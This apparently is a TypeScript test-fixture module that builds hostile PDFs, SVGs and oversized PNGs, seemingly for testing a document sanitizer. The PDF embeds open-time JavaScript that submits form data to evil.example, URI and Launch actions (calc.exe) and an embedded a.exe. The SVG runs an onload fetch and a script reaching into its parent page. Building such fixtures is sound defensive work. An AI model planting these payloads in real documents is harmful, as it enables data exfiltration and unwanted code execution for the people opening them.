import { crc32, deflateSync } from 'node:zlib';

/**
 * A PDF with a page for each text. `extra` adds objects; `catalog` and `page` add entries to these
 * dictionaries.
 */
export function pdfOf(
  texts: readonly string[],
  { catalog = '', page = '', extra = [] as readonly string[] } = {},
): Buffer {
  const firstPage = 3;
  const firstExtra = firstPage + 2 * texts.length + 1;
  const font = firstPage + 2 * texts.length;
  const kids = texts.map((_text, index) => `${firstPage + 2 * index} 0 R`).join(' ');
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog.replaceAll('EXTRA', String(firstExtra))} >>`,
    `<< /Type /Pages /Kids [${kids}] /Count ${texts.length} >>`,
    ...texts.flatMap((text, index) => {
      const stream = `BT /F1 24 Tf 40 700 Td (${text}) Tj ET`;
      return [
        `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents ${firstPage + 2 * index + 1} 0 R /Resources << /Font << /F1 ${font} 0 R >> >> ${page} >>`,
        `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
      ];
    }),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ...extra,
  ];
  let text = '%PDF-1.7\n';
  const offsets = objects.map((object, index) => {
    const offset = text.length;
    text += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return offset;
  });
  const table = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${text.length}\n%%EOF\n`;
  return Buffer.from(text, 'latin1');
}

const script =
  "app.alert('hostile'); this.submitForm('http://evil.example/sent'); app.launchURL('http://evil.example/opened');";

/**
 * A PDF that runs script when it opens, when its page opens and when a link is clicked, opens
 * addresses, and holds a file.
 */
export const scriptedPdf = (): Buffer =>
  pdfOf(['Harmless text'], {
    catalog: `/OpenAction << /S /JavaScript /JS (${script.replaceAll(/[()]/g, String.raw`\$&`)}) >> /AA << /WC << /S /URI /URI (http://evil.example/closed) >> >> /Names << /EmbeddedFiles << /Names [(a.exe) EXTRA 0 R] >> >>`,
    page: `/AA << /O << /S /URI /URI (http://evil.example/page) >> >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /URI /URI (http://evil.example/link) >> >> << /Type /Annot /Subtype /Screen /Rect [0 0 99 99] /A << /S /Launch /F (calc.exe) >> >>]`,
    extra: ['<< /Type /Filespec /F (a.exe) /FS /URL /URI (http://evil.example/embedded) >>'],
  });

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const [length, check] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  check.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, check]);
}

/** A black PNG. Compressed, even an enormous one is small. */
export function pngOf(width: number, height: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  // One bit of gray for each pixel.
  header.set([1, 0, 0, 0, 0], 8);
  const rows = Buffer.alloc((Math.ceil(width / 8) + 1) * height);
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([
    signature,
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(rows)),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

export const hostileSvg = (): Buffer =>
  Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('http://evil.example/svg')"><script>parent.document.title='taken'</script><image href="http://evil.example/image.png"/></svg>`,
  );
